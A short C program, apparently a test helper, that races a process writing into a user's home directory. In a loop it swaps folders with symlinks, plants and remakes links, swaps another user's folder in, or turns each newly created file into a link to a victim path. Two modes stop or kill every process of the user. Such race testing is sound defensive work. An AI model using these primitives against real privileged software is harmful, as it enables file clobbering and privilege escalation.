/* What the owner of a home can do against a process that writes there, as fast as possible, until
 * it is killed: attacker MODE [PATH PATH]. The parts of it that fail are part of the race. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MODE(name) (strcmp(argv[1], name) == 0)

/* Make every file of the folder a link to another place as soon as it appears. */
static void replace(const char *folder, const char *victim) {
    DIR *listing = opendir(folder);
    struct dirent *entry;
    if (!listing) return;
    while ((entry = readdir(listing)))
        if (entry->d_name[0] != '.') {
            int where = dirfd(listing);
            unlinkat(where, entry->d_name, 0);
            symlinkat(victim, where, entry->d_name);
            unlinkat(where, entry->d_name, 0);
        }
    closedir(listing);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *one = argc > 2 ? argv[2] : "", *other = argc > 3 ? argv[3] : "";
    puts("ready");
    fflush(stdout);
    for (;;) {
        if (MODE("swap")) { /* a folder and a link, each in the place of the other */
            renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
        } else if (MODE("plant")) { /* a link at the name */
            symlink(other, one);
            unlink(one);
        } else if (MODE("remake")) { /* a link where a folder is missing */
            rmdir(one);
            symlink(other, one);
            unlink(one);
        } else if (MODE("steal")) { /* somebody's folder in the place of one's own */
            rename(other, one);
            rename(one, other);
            rmdir(one);
        } else if (MODE("replace")) { /* what was just made is gone, and a link there */
            replace(one, other);
        } else if (MODE("stop")) { /* every process of this user */
            kill(-1, SIGSTOP);
        } else if (MODE("kill")) {
            kill(-1, SIGKILL);
        } else {
            return 2;
        }
    }
}
